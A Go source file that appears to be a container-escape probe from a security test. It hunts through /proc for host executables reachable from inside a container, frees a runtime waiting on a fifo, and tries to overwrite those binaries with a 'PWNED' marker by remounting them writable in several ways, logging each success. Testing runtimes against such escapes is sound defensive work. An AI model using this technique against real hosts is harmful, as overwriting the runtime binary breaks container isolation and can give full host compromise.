package main

import (
	"context"
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// fifo is where a runtime that was made to run in the container waits: a script may give
// its interpreter one argument, and --log=/fifo blocks until somebody reads.
const fifo = "/fifo"

// hunter collects what can be reached through other processes.
type hunter struct {
	seen  map[string]bool
	lines []string
	kept  []int // programs that are not the container's own
	own   map[string]bool
}

// poll follows the links of all processes until the time is over, or SIGTERM comes, then tries by all means
// to write to the programs that it has found.
func poll(d time.Duration, report string) error {
	h := &hunter{seen: map[string]bool{}, own: map[string]bool{}}
	for _, name := range []string{"/proc/self/exe", "/bin/busybox"} {
		var st unix.Stat_t
		if err := unix.Stat(name, &st); err != nil {
			return err
		}
		h.own[identity(&st)] = true
	}
	told, stop := signal.NotifyContext(context.Background(), unix.SIGTERM)
	defer stop()
	for end := time.Now().Add(d); told.Err() == nil && time.Now().Before(end); {
		pids, err := filepath.Glob("/proc/[0-9]*")
		if err != nil {
			return err
		}
		for _, dir := range pids {
			if dir != "/proc/"+strconv.Itoa(os.Getpid()) {
				h.look(dir)
			}
		}
	}
	h.release()
	for range 50 {
		h.attack()
		time.Sleep(2 * time.Millisecond)
	}
	h.note("done")
	return os.WriteFile(report, []byte(strings.Join(h.lines, "\n")+"\n"), 0o600)
}

func (h *hunter) look(dir string) {
	h.follow(dir, "exe", unix.O_PATH)
	h.follow(dir, "exe", unix.O_RDONLY)
	h.follow(dir, "root", unix.O_PATH)
	h.follow(dir, "cwd", unix.O_PATH)
	for _, list := range []string{"map_files", "fd"} {
		names, err := os.ReadDir(dir + "/" + list)
		if err != nil {
			continue
		}
		for _, n := range names {
			h.follow(dir, list+"/"+n.Name(), unix.O_PATH)
		}
	}
}

// follow opens a link of a process. A program that is not the container's is kept.
func (h *hunter) follow(dir, link string, flags int) {
	fd, err := unix.Open(dir+"/"+link, flags|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	var st unix.Stat_t
	if err := unix.Fstat(fd, &st); err != nil {
		_ = unix.Close(fd)
		return
	}
	kind, _, _ := strings.Cut(link, "/")
	key := fmt.Sprintf("%s %s %x %d", kind, identity(&st), st.Mode&unix.S_IFMT, flags)
	program := st.Mode&unix.S_IFMT == unix.S_IFREG && (kind == "exe" || kind == "map_files") && !h.own[identity(&st)]
	if h.seen[key] || !program {
		_ = unix.Close(fd)
	} else {
		h.kept = append(h.kept, fd)
	}
	if !h.seen[key] {
		h.seen[key] = true
		name, _ := os.Readlink(dir + "/" + link)
		h.note(fmt.Sprintf("%s %s %q", kind, identity(&st), name))
	}
}

func (h *hunter) note(line string) { h.lines = append(h.lines, line) }

func identity(st *unix.Stat_t) string { return fmt.Sprintf("%d:%d", st.Dev, st.Ino) }

// release lets a runtime go that waits at the fifo: a program that runs can't be written.
func (h *hunter) release() {
	fd, err := unix.Open(fifo, unix.O_RDONLY|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	time.Sleep(200 * time.Millisecond)
	_ = unix.Close(fd)
}

// attack tries to write to the kept programs: as they are, then with their mounts made
// writable by every call that takes a descriptor.
func (h *hunter) attack() {
	for _, fd := range h.kept {
		h.write(fd)
		writable := &unix.MountAttr{Attr_clr: unix.MOUNT_ATTR_RDONLY}
		_ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH, writable)
		_ = unix.MountSetattr(fd, "", unix.AT_EMPTY_PATH|unix.AT_RECURSIVE, writable)
		self := "/proc/self/fd/" + strconv.Itoa(fd)
		_ = unix.Mount("", self, "", unix.MS_REMOUNT|unix.MS_BIND, "")
		_ = unix.Mount("", self, "", unix.MS_REMOUNT, "")
		h.write(fd)
		h.clone(fd, writable)
	}
}

// clone makes mounts of the file that are the attacker's own.
func (h *hunter) clone(fd int, writable *unix.MountAttr) {
	tree, err := unix.OpenTree(fd, "", unix.AT_EMPTY_PATH|unix.OPEN_TREE_CLONE|unix.OPEN_TREE_CLOEXEC)
	if err == nil {
		_ = unix.MountSetattr(tree, "", unix.AT_EMPTY_PATH, writable)
		h.write(tree)
		_ = unix.MoveMount(tree, "", unix.AT_FDCWD, "/target", unix.MOVE_MOUNT_F_EMPTY_PATH)
		_ = unix.Close(tree)
	}
	if unix.Mount("/proc/self/fd/"+strconv.Itoa(fd), "/target", "", unix.MS_BIND, "") == nil {
		_ = unix.Mount("", "/target", "", unix.MS_REMOUNT|unix.MS_BIND, "")
		target, err := unix.Open("/target", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			h.write(target)
			_ = unix.Close(target)
		}
		_ = unix.Unmount("/target", unix.MNT_DETACH)
	}
}

func (h *hunter) write(fd int) {
	w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	if n, _ := unix.Write(w, []byte("PWNED")); n > 0 {
		name, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if line := "wrote " + name; !h.seen[line] {
			h.seen[line] = true
			h.note(line)
		}
	}
	_ = unix.Close(w)
}
